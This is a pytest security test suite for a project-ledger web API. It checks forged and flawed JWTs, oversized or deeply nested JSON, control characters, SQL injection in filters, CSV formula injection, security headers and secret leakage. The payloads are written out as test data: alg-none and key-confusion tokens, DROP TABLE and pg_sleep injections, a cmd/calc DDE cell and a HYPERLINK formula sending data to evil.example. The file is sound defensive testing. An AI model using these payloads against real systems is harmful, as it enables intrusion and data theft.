"""Hostile input and access, over real HTTP (uvicorn on a port): forged and flawed tokens, bodies
too big or nested too deep, control characters, SQL injection in every filter, formulas in CSV
cells, the security headers, and the secrets that never leave the server.

Every refusal is a 4xx ``application/problem+json`` and records nothing: the log's head is read
before and after. Where the store matters (what is recorded, filtered and exported), the tests
run on SQLite and on PostgreSQL; access is decided before the store is touched.
"""

from __future__ import annotations

import base64
import csv
import hashlib
import hmac
import io
import logging
import re
import sqlite3
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from datetime import date
from pathlib import Path
from typing import Any
from urllib.parse import quote

import httpx
import jwt
import orjson
import pytest
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import rsa
from fastapi import FastAPI
from pydantic import SecretStr

from api.http.app import create_app
from api.http.auth import Tokens
from api.http.settings import HttpSettings
from domain import commands as c
from domain.service import Ledger
from domain.store import sqlite_env
from tests.fault_support import PG_PASSWORD, private_key_lines, served
from tests.principals import ACME, AUDITOR, GLOBEX, PMO, Who

SECRET = SecretStr("hostile-jwt-secret-" + "h" * 40)
CODE, OTHER = "ACME-ERP", "GLOBEX-CRM"
E = f"/engagements/{CODE}"
TASK = {"title": "Train key users"}
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"^-?\d+(\.\d+)?$")


@dataclass
class Server:
    """The app behind a real HTTP server; every response it gave is kept for the secrets check."""

    app: FastAPI
    http: httpx.Client
    tokens: Tokens
    responses: list[httpx.Response] = field(default_factory=list)

    def token(self, who: Who = PMO) -> str:
        return self.tokens.issue(who.sub, who.role, who.client_id)

    def send(self, method: str, path: str, token: str | None, **kwargs: Any) -> httpx.Response:
        headers = dict(kwargs.pop("headers", {}))
        if token is not None:
            headers["Authorization"] = f"Bearer {token}"
        response = self.http.request(method, path, headers=headers, **kwargs)
        self.responses.append(response)
        return response

    def get(self, path: str, who: Who = PMO, /, **params: Any) -> httpx.Response:
        return self.send("GET", path, self.token(who), params=params)

    def post(self, path: str, body: Any, who: Who = PMO) -> httpx.Response:
        return self.send("POST", path, self.token(who), json=body)

    def head(self) -> int:
        """The last log position: it moves if anything at all was recorded."""
        ledger: Ledger = self.app.state.ledger
        return ledger.recorder.max_notification_id() or 0

    def project(self) -> None:
        self.app.state.runner.catch_up()


def assert_problem(response: httpx.Response, *statuses: int) -> dict[str, Any]:
    """A problem response with one of ``statuses``; its body."""
    assert response.status_code in statuses, (response.status_code, response.text)
    assert response.headers["content-type"] == "application/problem+json"
    body: dict[str, Any] = response.json()
    assert body["status"] == response.status_code
    assert body["rule"]
    return body


def _record_the_scene(store: dict[str, str]) -> None:
    """ACME's engagement with a milestone and a task; Globex's engagement beside it."""
    common: dict[str, Any] = {
        "title": "ERP rollout",
        "manager": "Dana Whitfield",
        "planned_start": date(2025, 1, 6),
        "planned_end": date(2025, 12, 19),
    }
    with Ledger(store) as ledger:
        for command in (
            c.OpenEngagement(code=CODE, client_id="acme", client_name="ACME Manufacturing", **common),
            c.PlanMilestone(code=CODE, key="uat", title="UAT sign-off", baseline=date(2025, 6, 13)),
            c.AddTask(code=CODE, key="scripts", title="Write UAT scripts"),
            c.OpenEngagement(code=OTHER, client_id="globex", client_name="Globex Corp", **common),
        ):
            ledger.execute(command, actor=PMO.sub)


def _serve(store: dict[str, str], data: Path, **settings: Any) -> Iterator[Server]:
    _record_the_scene(store)
    http_settings = HttpSettings(data_dir=data, jwt_secret=SECRET, embedded_projections=False, **settings)
    app = create_app(http_settings, store=store)
    tokens = Tokens(http_settings.model_copy(update={"jwt_public_key": None}))
    with served(app) as url, httpx.Client(base_url=url, timeout=30) as http:
        server = Server(app, http, tokens)
        server.project()
        yield server


@pytest.fixture
def server(store: dict[str, str], tmp_path: Path) -> Iterator[Server]:
    """The scene served on each store (PostgreSQL given a password, which must never show)."""
    if "SQLITE_DBNAME" not in store:
        store = store | {"POSTGRES_PASSWORD": PG_PASSWORD}
    yield from _serve(store, tmp_path / "http")


@pytest.fixture(scope="module")
def embedded(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    """The scene served on SQLite, for what is decided before the store is touched (one for all:
    each test reads the log's head before and after itself)."""
    folder = tmp_path_factory.mktemp("embedded")
    yield from _serve(sqlite_env(folder / "store"), folder / "http")


# Tokens: made by hand, so that each carries exactly one flaw.


def _segment(value: Any) -> str:
    raw = value if isinstance(value, bytes) else orjson.dumps(value)
    return base64.urlsafe_b64encode(raw).rstrip(b"=").decode()


def claims(**changes: Any) -> dict[str, Any]:
    """A PMO's claims, valid for an hour; a change to ``None`` leaves that claim out."""
    now = int(time.time())
    found = {"sub": "mallory", "role": "pmo", "iat": now, "nbf": now, "exp": now + 3600} | changes
    return {name: value for name, value in found.items() if value is not None}


def signed(payload: dict[str, Any], key: bytes, alg: str = "HS256", **header: Any) -> str:
    """An HMAC-signed token with any key at all (PyJWT refuses a PEM as an HMAC secret; attackers don't)."""
    head = _segment({"alg": alg, "typ": "JWT", **header}) + "." + _segment(payload)
    digest = {"HS256": hashlib.sha256, "HS512": hashlib.sha512}[alg]
    return head + "." + _segment(hmac.new(key, head.encode(), digest).digest())


def unsigned(payload: dict[str, Any], alg: str = "none") -> str:
    return _segment({"alg": alg, "typ": "JWT"}) + "." + _segment(payload) + "."


OURS = SECRET.get_secret_value().encode()


def _with_payload(token: str, **changes: Any) -> str:
    """``token`` with its claims changed and its signature kept (a tampered token)."""
    header, payload, signature = token.split(".")
    found = orjson.loads(base64.urlsafe_b64decode(payload + "=" * (-len(payload) % 4)))
    return ".".join([header, _segment(found | changes), signature])


FLAWED: dict[str, Callable[[Server], str]] = {
    "alg none": lambda s: unsigned(claims()),
    "alg None": lambda s: unsigned(claims(), "None"),
    "signed with another key": lambda s: signed(claims(), b"another-secret-" + b"x" * 40),
    "our secret under HS512 (algorithm not pinned)": lambda s: signed(claims(), OURS, "HS512"),
    "expired": lambda s: signed(claims(exp=int(time.time()) - 60), OURS),
    "not yet valid": lambda s: signed(claims(nbf=int(time.time()) + 3600), OURS),
    "issued in the future": lambda s: signed(claims(iat=int(time.time()) + 3600), OURS),
    "without sub": lambda s: signed(claims(sub=None), OURS),
    "without role": lambda s: signed(claims(role=None), OURS),
    "without exp": lambda s: signed(claims(exp=None), OURS),
    "an empty sub": lambda s: signed(claims(sub=""), OURS),
    "a sub that is a number": lambda s: signed(claims(sub=42), OURS),
    "an unknown role": lambda s: signed(claims(role="admin"), OURS),
    "a role in capitals": lambda s: signed(claims(role="PMO"), OURS),
    "a client without client_id": lambda s: signed(claims(role="client"), OURS),
    "a client_id that is a list": lambda s: signed(claims(role="client", client_id=["acme", "globex"]), OURS),
    "a client's token made pmo": lambda s: _with_payload(s.token(ACME), role="pmo"),
    "a client's token made another client's": lambda s: _with_payload(s.token(GLOBEX), client_id="acme"),
    "a pmo's token without its signature": lambda s: s.token(PMO).rsplit(".", 1)[0] + ".",
    "a key id pointing at our secret's file": lambda s: signed(claims(), b"guess", kid="../http/jwt-secret"),
    "a key set url of the attacker's": lambda s: signed(claims(), b"guess", jku="http://127.0.0.1:9/jwks.json"),
    "not a JWT": lambda s: "not-a-jwt",
    "a JWT of empty parts": lambda s: "..",
}  # fmt: skip
"""Tokens an attacker might send, each refused (401) wherever it is sent."""


def test_a_token_made_the_same_way_without_a_flaw_is_accepted(embedded: Server) -> None:
    """The control for the table above: its tokens fail for their flaw, not for how they are made."""
    token = signed(claims(), OURS)
    assert embedded.send("POST", f"{E}/tasks", token, json=TASK).status_code == 201
    assert embedded.send("GET", E, token).status_code == 200


@pytest.mark.parametrize("flaw", FLAWED)
def test_a_flawed_or_forged_token_is_refused_and_records_nothing(embedded: Server, flaw: str) -> None:
    token = FLAWED[flaw](embedded)
    head = embedded.head()
    for method, path, body in [("POST", f"{E}/tasks", TASK), ("GET", E, None), ("GET", "/audit", None)]:
        response = embedded.send(method, path, token, json=body)
        assert assert_problem(response, 401)["rule"] == "Unauthenticated"
        assert response.headers["WWW-Authenticate"] == "Bearer"
    assert embedded.head() == head


@pytest.mark.parametrize("scheme", ["Basic", "Token", "bearer-ish", ""])
def test_credentials_in_another_scheme_are_refused(embedded: Server, scheme: str) -> None:
    header = f"{scheme} {embedded.token()}".strip()
    response = embedded.send("POST", f"{E}/tasks", None, json=TASK, headers={"Authorization": header})
    assert assert_problem(response, 401)["rule"] == "Unauthenticated"


@pytest.fixture
def identity_provider(sqlite_store: dict[str, str], tmp_path: Path) -> Iterator[tuple[Server, Any]]:
    """The scene served with RS256 tokens of an identity provider; its private key."""
    private = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    public = private.public_key().public_bytes(
        serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo
    )
    yield from (
        (server, private)
        for server in _serve(sqlite_store, tmp_path / "http", jwt_public_key=public.decode())
    )


def test_the_hs_rs_algorithm_swap_and_foreign_keys_are_refused(identity_provider: tuple[Server, Any]) -> None:
    server, private = identity_provider
    public = private.public_key().public_bytes(
        serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo
    )
    stranger = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    forged = {
        "HS256 signed with the public key PEM as the secret": signed(claims(), public),
        "HS256 signed with the PEM less its last newline": signed(claims(), public.rstrip(b"\n")),
        "HS256 signed with the old shared secret": signed(claims(), OURS),
        "RS256 signed by another key": jwt.encode(claims(), stranger, algorithm="RS256"),
        "alg none": unsigned(claims()),
    }
    head = server.head()
    for name, token in forged.items():
        response = server.send("POST", f"{E}/tasks", token, json=TASK)
        assert assert_problem(response, 401)["rule"] == "Unauthenticated", name
    assert server.head() == head
    genuine = jwt.encode(claims(), private, algorithm="RS256")
    assert server.send("POST", f"{E}/tasks", genuine, json=TASK).status_code == 201


def test_another_clients_token_sees_no_trace_of_the_engagement_and_changes_nothing(embedded: Server) -> None:
    """An engagement of another client answers exactly as one that does not exist (404), so a token
    learns nothing of other clients' codes; commands and the ledger-wide trail are refused (403)."""
    head = embedded.head()
    for path in ["", "/milestones", "/slips", "/changelog", "/audit", "/changelog?format=csv"]:
        theirs = embedded.send("GET", f"{E}{path}", embedded.token(GLOBEX))
        nobody = embedded.send("GET", f"/engagements/NO-SUCH{path}", embedded.token(GLOBEX))
        assert (
            assert_problem(theirs, 404)["rule"] == assert_problem(nobody, 404)["rule"] == "EngagementNotFound"
        )
        assert theirs.text == nobody.text.replace("NO-SUCH", CODE)  # the same answer, word for word
    for method, path, body in [("POST", f"{E}/tasks", TASK), ("POST", f"{E}/hold", {"reason": "x"}),
                               ("GET", "/audit", None), ("GET", f"/audit?code={CODE}", None)]:  # fmt: skip
        assert assert_problem(embedded.send(method, path, embedded.token(GLOBEX), json=body), 403)
    portfolio = embedded.get("/engagements", GLOBEX).json()
    assert [e["code"] for e in portfolio] == [OTHER]
    assert embedded.head() == head


# Bodies


def test_a_body_over_the_limit_is_refused_with_or_without_a_length(embedded: Server) -> None:
    head = embedded.head()
    big = orjson.dumps({"title": "x" * (64 * 1024)})
    chunks = (big[i : i + 4096] for i in range(0, len(big), 4096))
    for content in (big, chunks):
        response = embedded.send(
            "POST",
            f"{E}/tasks",
            embedded.token(),
            content=content,
            headers={"Content-Type": "application/json"},
        )
        assert assert_problem(response, 413)["rule"] == "BodyTooLarge"
    assert embedded.head() == head
    assert embedded.post(f"{E}/tasks", TASK).status_code == 201  # and the server goes on


@pytest.mark.parametrize(
    "body",
    [
        b"[" * 30_000 + b"]" * 30_000,
        b'{"title": ' + b'{"a": ' * 8_000 + b"1" + b"}" * 8_000 + b"}",
        b'{"title": "x", "milestone_key": ' + b"[" * 20_000 + b"]" * 20_000 + b"}",
        b'{"title": ' + b"9" * 5000 + b"}",
        b'{"title": "\xff\xfe"}',
        b'{"title": "unterminated',
    ],
    ids=["a list 30,000 deep", "an object 8,000 deep", "a field 20,000 deep", "a 5,000-digit number",
         "bytes that are not UTF-8", "an unterminated string"],
)  # fmt: skip
def test_json_nested_too_deep_or_unreadable_is_a_400_problem(embedded: Server, body: bytes) -> None:
    head = embedded.head()
    response = embedded.send(
        "POST", f"{E}/tasks", embedded.token(), content=body, headers={"Content-Type": "application/json"}
    )
    assert assert_problem(response, 400)["rule"] == "MalformedJson"
    assert embedded.head() == head
    assert embedded.get("/engagements").status_code == 200


@pytest.mark.parametrize(
    "body",
    [{"title": "Train\x00users"}, {"title": "\x1b[2J\x1b[31mrm -rf"},
     {"title": "Ok", "reason": "null\x00byte"}, {"title": "Ok", "assignee": "bell\x07"},
     {"title": "Ok", "change_ref": "CR\x7f"}],
    ids=["NUL in a title", "an escape sequence", "NUL in a reason", "a bell in a name", "DEL in a reference"],
)  # fmt: skip
def test_control_characters_are_refused_and_the_projections_keep_going(server: Server, body: Any) -> None:
    """A NUL cannot be stored in a PostgreSQL text column: one recorded would stop every projection."""
    head = server.head()
    assert assert_problem(server.post(f"{E}/tasks", body), 422)["rule"] == "InvalidInput"
    assert server.head() == head
    assert server.post(f"{E}/tasks", {"title": "Tabs\tand\nnew lines are text"}).status_code == 201
    server.project()
    assert "Tabs\tand\nnew lines are text" in {t["title"] for t in server.get(E).json()["tasks"]}


# SQL injection: every filter and paging parameter of the trails, with the classic payloads.

INJECTIONS = [
    "' OR '1'='1", "dana.whitfield' --", "1 OR 1=1", "1; DROP TABLE audit_trail; --",
    "x'; DELETE FROM projection_positions; --", "' UNION SELECT * FROM audit_trail --",
    "%' OR actor LIKE '%", "$$; DROP TABLE audit_trail; $$", "'; SELECT pg_sleep(10); --",
    "2026-01-01' OR '1'='1", "0) OR (1=1", "\\'; --",
]  # fmt: skip
PARAMETERS = {
    "/audit": ["since", "until", "category", "actor", "subject", "code", "after", "limit", "format",
               "min_position"],
    f"{E}/audit": ["since", "until", "category", "actor", "subject", "after", "limit", "format",
                   "min_position"],
    f"{E}/changelog": ["since", "until", "category", "after", "limit", "format", "min_position"],
}  # fmt: skip


def _trails(server: Server) -> dict[str, Any]:
    return {path: server.get(path, limit=1000).json() for path in PARAMETERS}


def test_sql_injection_in_filters_and_paging_finds_nothing_and_changes_nothing(server: Server) -> None:
    before, head = _trails(server), server.head()
    assert all(trail["items"] for trail in before.values())
    for path, names in PARAMETERS.items():
        for name in names:
            for payload in INJECTIONS:
                response = server.get(path, **{name: payload})
                if response.status_code == 200:
                    assert response.json()["items"] == [], (path, name, payload)
                else:
                    assert_problem(response, 422)
    for payload in INJECTIONS:
        assert_problem(server.get(f"/engagements/{quote(payload, safe='')}/audit"), 404, 422)
    assert _trails(server) == before
    assert server.head() == head
    assert server.get(E).status_code == 200


# CSV: cells a spreadsheet would run as a formula are written with a leading quote.

FORMULAS = {
    "title": '=HYPERLINK("http://evil.example/?leak="&A1,"Open")',
    "reason": "+1+cmd|' /C calc'!A0",
    "change_ref": "@SUM(A1:A9)",
    "internal_note": "-2+3 days, not billed",
}


def _cells(response: httpx.Response) -> list[dict[str, str]]:
    assert response.status_code == 200, response.text
    header, *rows = csv.reader(io.StringIO(response.text, newline=""))
    return [dict(zip(header, row, strict=True)) for row in rows]


def test_csv_exports_neutralise_formulas_end_to_end(server: Server) -> None:
    assert server.post(f"{E}/scope-items", FORMULAS).status_code == 201
    assert server.post(f"{E}/tasks", {"title": "@import", "reason": "=1+1"}).status_code == 201
    server.project()
    exports = {
        "change log": server.get(f"{E}/changelog", ACME, format="csv"),
        "audit trail": server.get(f"{E}/audit", AUDITOR, format="csv"),
        "ledger-wide trail": server.get("/audit", PMO, format="csv"),
    }
    for name, response in exports.items():
        rows = _cells(response)
        runnable = [
            v for row in rows for v in row.values() if v.startswith(FORMULA_STARTS) and not NUMBER.match(v)
        ]
        assert runnable == [], name
        added = next(row for row in rows if row["type"] == "ScopeItemAdded")
        assert added["reason"] == "'" + FORMULAS["reason"], name
        assert added["change_ref"] == "'" + FORMULAS["change_ref"], name
    staff = next(row for row in _cells(exports["audit trail"]) if row["type"] == "ScopeItemAdded")
    assert staff["internal_note"] == "'" + FORMULAS["internal_note"]
    as_json = server.get(f"{E}/changelog", ACME, category="scope").json()["items"]
    assert as_json[-1]["reason"] == FORMULAS["reason"]  # JSON carries the text as it was written


# Headers and secrets


def test_every_response_carries_the_security_headers(embedded: Server) -> None:
    big = orjson.dumps({"title": "x" * (64 * 1024)})
    answers = {
        "json": embedded.get("/engagements"),
        "csv": embedded.get(f"{E}/audit", format="csv"),
        "problem 401": embedded.send("GET", "/engagements", None),
        "problem 404": embedded.send("GET", "/no/such/route", embedded.token()),
        "problem 413": embedded.send("POST", f"{E}/tasks", embedded.token(), content=big),
        "problem 422": embedded.post(f"{E}/tasks", {"title": ""}),
        "openapi": embedded.send("GET", "/openapi.json", None),
        "docs page": embedded.send("GET", "/docs", None),
    }
    for name, response in answers.items():
        headers = response.headers
        assert headers["X-Content-Type-Options"] == "nosniff", name
        assert headers["X-Frame-Options"] == "DENY", name
        assert headers["Referrer-Policy"] == "no-referrer", name
        assert "frame-ancestors 'none'" in headers["Content-Security-Policy"], name
        assert headers["Cache-Control"] == "no-store", name
    assert answers["json"].headers["Content-Security-Policy"].startswith("default-src 'none'")
    assert answers["docs page"].headers["content-type"].startswith("text/html")
    assert (
        "script-src 'self' 'unsafe-inline' https://cdn.jsdelivr.net"
        in answers["docs page"].headers["Content-Security-Policy"]
    )


def test_an_unexpected_failure_is_a_500_problem_that_names_nothing_of_it(tmp_path: Path) -> None:
    """A database error that is not an outage (a missing table) is a bug: a 500 problem whose
    body says nothing of it (the log has it), with the headers every answer carries."""
    app = create_app(HttpSettings(data_dir=tmp_path / "http", jwt_secret=SECRET), store=sqlite_env(tmp_path))

    @app.get("/fails")
    def fails() -> None:
        raise sqlite3.OperationalError(f"no such table: ledger_{PG_PASSWORD}")

    with served(app) as url, httpx.Client(base_url=url) as http:
        response = http.get("/fails")
    assert assert_problem(response, 500)["rule"] == "InternalError"
    assert PG_PASSWORD not in response.text
    assert response.headers["X-Frame-Options"] == "DENY"


def test_secrets_never_leave_the_server_in_answers_or_logs(
    server: Server, tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.DEBUG)
    presented = [FLAWED[flaw](server) for flaw in FLAWED] + [server.token(who) for who in (PMO, ACME, GLOBEX)]
    for token in presented:
        server.send("POST", f"{E}/tasks", token, json=TASK)
        server.send("GET", f"{E}/audit", token, params={"format": "csv"})
    server.post(f"{E}/tasks", {"title": 7, "due_on": "yesterday", "unknown": True})
    server.post(f"{E}/milestones/uat/achieve", {"actual_on": "2999-01-01"})
    server.get("/audit", since="not a time", min_position=10**9)
    secrets = [SECRET.get_secret_value(), PG_PASSWORD, *private_key_lines(tmp_path / "http")]
    answered = "\n".join(f"{r.headers}\n{r.text}" for r in server.responses)
    for secret in secrets:
        assert secret not in answered
        assert secret not in caplog.text
    for token in presented[-3:]:  # our own, valid tokens: the flawed ones are the attacker's to know
        assert token not in caplog.text
        assert all(token not in r.text for r in server.responses)
